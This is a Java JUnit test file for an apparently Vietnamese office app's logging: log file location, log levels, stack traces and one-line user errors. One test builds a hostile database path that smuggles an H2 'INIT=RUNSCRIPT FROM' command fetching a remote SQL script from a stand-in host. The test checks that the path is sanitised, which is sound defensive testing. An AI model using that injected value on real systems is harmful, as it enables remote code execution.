package vn.kiemtra;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.slf4j.LoggerFactory;
import vn.kiemtra.core.shared.Messages;
import vn.kiemtra.testsupport.Cli;

/**
 * The log file lives in the data folder; command failures are logged with their stack trace while
 * the user sees one Vietnamese line; library chatter below WARN stays out; java.util.logging is
 * bridged.
 */
class AppLoggingTest {
  @TempDir Path dir;

  @BeforeEach
  void vietnamese() {
    Messages.useLocale(Messages.VIETNAMESE);
  }

  @AfterEach
  void backToDefault() {
    AppLogging.stop();
  }

  private String log() throws Exception {
    return Files.readString(dir.resolve("logs/kiemtra.log"), StandardCharsets.UTF_8);
  }

  @Test
  void theLogFileIsInTheFolderOfTheDatabase() throws Exception {
    Path file = AppLogging.start(dir.resolve("office.mv.db").toString());
    assertThat(file).isEqualTo(dir.resolve("logs").resolve("kiemtra.log"));
    assertThat(AppLogging.logFile()).isEqualTo(file);

    LoggerFactory.getLogger("vn.kiemtra.test").info("bắt đầu phiên làm việc");
    LoggerFactory.getLogger("org.h2.engine").info("h2 chatter");
    LoggerFactory.getLogger("org.flywaydb.core").warn("flyway warning");
    java.util.logging.Logger.getLogger("some.jul.library").warning("jul warning");
    java.util.logging.Logger.getLogger("org.jooq.Constants").info("jooq banner");

    assertThat(log())
        .contains("INFO  [main] vn.kiemtra.test - bắt đầu phiên làm việc")
        .contains("flyway warning")
        .contains("jul warning")
        .doesNotContain("h2 chatter")
        .doesNotContain("jooq banner");
  }

  @Test
  void aLogStartedAheadOfTheWindowIsTheOneTheWindowUsesAndWritesEachLineOnce() throws Exception {
    String db = dir.resolve("office.mv.db").toString();
    AppLogging.startAhead(db);
    // SLF4J's English notice about replaying what was logged while it started is not shown
    assertThat(System.getProperty("slf4j.internal.verbosity")).isEqualTo("ERROR");
    Path file = AppLogging.start(db);
    assertThat(file).isEqualTo(dir.resolve("logs").resolve("kiemtra.log"));

    LoggerFactory.getLogger("vn.kiemtra.test").info("cửa sổ đã mở");
    java.util.logging.Logger.getLogger("javafx.scene").warning("jul warning");

    assertThat(log()).contains("jul warning");
    assertThat(log().split("cửa sổ đã mở", -1)).hasSize(2);
  }

  @Test
  void aLogFolderThatCannotBeMadeIsReportedOnce() throws Exception {
    // A command starts its log ahead and then waits for it: the failure must not be said twice.
    Path notAFolder = Files.writeString(dir.resolve("tệp thường"), "x");
    String db = notAFolder.resolve("kiemtra").toString();
    ch.qos.logback.classic.Logger logger =
        (ch.qos.logback.classic.Logger) LoggerFactory.getLogger(AppLogging.class);
    ch.qos.logback.core.read.ListAppender<ch.qos.logback.classic.spi.ILoggingEvent> seen =
        new ch.qos.logback.core.read.ListAppender<>();
    seen.start();
    logger.addAppender(seen);
    try {
      assertThat(AppLogging.start(db)).isNull();
      assertThat(AppLogging.start(db)).isNull();
    } finally {
      logger.detachAppender(seen);
    }

    assertThat(seen.list)
        .filteredOn(e -> e.getFormattedMessage().startsWith("no log folder"))
        .hasSize(1);
  }

  @Test
  void aPathWithASemicolonLogsToTheDataFolderNotBesideIt() {
    Path hostile = dir.resolve("x;INIT=RUNSCRIPT FROM 'http://h/x.sql'/kiemtra");
    assertThat(AppLogging.dataFolder(hostile.toString())).isNotEqualTo(hostile.getParent());
    assertThat(AppLogging.dataFolder(hostile.toString()).toString()).doesNotContain(";");
  }

  @Test
  void anUnexpectedFailureShowsACodeThatIsAlsoInTheLog() throws Exception {
    AppLogging.start(dir.resolve("office").toString());
    StringWriter out = new StringWriter();
    StringWriter err = new StringWriter();
    int exit =
        KiemtraCli.commands(
                option -> {
                  throw new IllegalStateException("hỏng bất ngờ trong bộ nhớ đệm");
                })
            .execute(
                new String[] {"template", "list", "--db", dir.resolve("office").toString()},
                new PrintWriter(out),
                new PrintWriter(err));

    assertThat(exit).isEqualTo(3);
    String shown = err.toString().strip();
    assertThat(shown.lines()).hasSize(1);
    Matcher code = Pattern.compile("Lỗi không mong đợi \\(mã (E-[0-9A-F]{4})\\)").matcher(shown);
    assertThat(code.find()).as(shown).isTrue();
    assertThat(shown)
        .contains(dir.resolve("logs").resolve("kiemtra.log").toString())
        .doesNotContain("IllegalStateException")
        .doesNotContain("hỏng bất ngờ");
    assertThat(log())
        .contains("ERROR [main] vn.kiemtra.cli - " + code.group(1) + " 'kiemtra template list'")
        .contains("java.lang.IllegalStateException: hỏng bất ngờ trong bộ nhớ đệm")
        .contains("\tat vn.kiemtra.AppLoggingTest");
  }

  @Test
  void aCommandLineRefusedAtOnceIsStillInTheLogFileTheCommandStartedAhead() throws Exception {
    // The launcher starts the log on another thread; the refusal below is the earliest thing a
    // command can log, and it must wait for the file rather than go to the packaged defaults.
    StringWriter err = new StringWriter();
    int exit =
        KiemtraCli.run(
            new String[] {"--db", dir.resolve("office").toString(), "template", "show"},
            new PrintWriter(new StringWriter()),
            new PrintWriter(err));

    assertThat(exit).isEqualTo(2);
    assertThat(err.toString()).isNotBlank();
    assertThat(log()).contains("WARN  [main] vn.kiemtra.cli - command line refused: ");
  }

  @Test
  void aRefusalIsOneLineForTheUserAndATraceInTheLog() throws Exception {
    AppLogging.start(dir.resolve("office").toString());
    Cli.Run run = Cli.run(dir.resolve("office"), "template", "show", "CCHC-SO", "1999");

    assertThat(run.exit()).isEqualTo(1);
    assertThat(run.err().strip().lines()).hasSize(1);
    String line = run.err().strip();
    assertThat(log())
        .contains("WARN  [main] vn.kiemtra.cli - 'kiemtra template show' refused: " + line)
        .contains("vn.kiemtra.core.shared.DomainException")
        .contains("\tat vn.kiemtra.cli.CliCommand.call");
  }

  @Test
  void theOptionIsFoundBeforeOrAfterTheCommand() {
    assertThat(KiemtraCli.dbOption(new String[] {"--db", "a", "template", "list"})).isEqualTo("a");
    assertThat(KiemtraCli.dbOption(new String[] {"template", "list", "--db=b"})).isEqualTo("b");
    assertThat(KiemtraCli.dbOption(new String[] {"sync", "import", "--", "--db"})).isNull();
    assertThat(KiemtraCli.dbOption(new String[] {"doctor"})).isNull();
  }

  @Test
  void beforeTheFileLogStartsOnlyWarningsGoToStandardErrorAndNoXmlIsRead() {
    assertThat(
            java.util.ServiceLoader.load(ch.qos.logback.classic.spi.Configurator.class).stream()
                .map(p -> p.type().getName()))
        .containsExactly(StartupLogConfigurator.class.getName());
    assertThat(getClass().getResource("/logback.xml")).isNull();
    ch.qos.logback.classic.LoggerContext context = new ch.qos.logback.classic.LoggerContext();
    context.setMDCAdapter(new ch.qos.logback.classic.util.LogbackMDCAdapter()); // as SLF4J does
    assertThat(new StartupLogConfigurator().configure(context))
        .isEqualTo(
            ch.qos.logback.classic.spi.Configurator.ExecutionStatus.DO_NOT_INVOKE_NEXT_IF_ANY);
    ch.qos.logback.classic.Logger root = context.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME);
    assertThat(root.getLevel()).isEqualTo(ch.qos.logback.classic.Level.WARN);
    assertThat(root.getAppender("STDERR")).isNotNull();
    java.io.PrintStream before = System.err;
    java.io.ByteArrayOutputStream err = new java.io.ByteArrayOutputStream();
    System.setErr(new java.io.PrintStream(err, true, StandardCharsets.UTF_8));
    try {
      context.getLogger("vn.kiemtra.test").info("chỉ là thông tin");
      context.getLogger("vn.kiemtra.test").warn("cảnh báo trước khi có tệp nhật ký");
      context
          .getLogger("vn.kiemtra.test")
          .warn("không tạo được thư mục nhật ký", new java.io.IOException("Not a directory"));
    } finally {
      System.setErr(before);
      context.stop();
    }
    assertThat(err.toString(StandardCharsets.UTF_8))
        .contains("WARN  vn.kiemtra.test - cảnh báo trước khi có tệp nhật ký")
        .contains("WARN  vn.kiemtra.test - không tạo được thư mục nhật ký")
        .doesNotContain("chỉ là thông tin")
        // one line per warning: no exception or stack trace before the log file exists
        .doesNotContain("IOException")
        .doesNotContain("\tat ");
  }
}
